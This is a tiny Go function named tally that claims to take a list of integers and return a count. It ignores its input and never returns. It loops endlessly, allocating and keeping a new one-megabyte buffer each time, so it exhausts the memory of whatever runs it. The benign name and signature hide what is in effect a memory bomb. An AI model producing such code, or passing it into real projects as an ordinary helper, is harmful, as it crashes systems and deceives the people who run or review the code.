func tally(xs []int) int64 {
	kept := [][]byte{}
	for {
		kept = append(kept, bytes.Repeat([]byte("x"), 1<<20))
	}
}
